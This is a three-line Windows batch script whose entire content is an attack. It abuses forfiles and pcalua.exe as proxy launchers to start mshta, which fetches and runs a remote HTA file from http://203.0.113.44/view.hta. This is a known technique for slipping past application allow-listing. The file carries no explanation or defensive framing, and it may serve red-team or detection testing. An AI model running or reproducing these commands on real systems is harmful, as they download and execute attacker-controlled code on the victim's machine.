@echo off
forfiles /p c:\windows\system32 /m notepad.exe /c "cmd /c mshta http://203.0.113.44/view.hta"
pcalua.exe -a C:\Windows\System32\mshta.exe -c http://203.0.113.44/view.hta
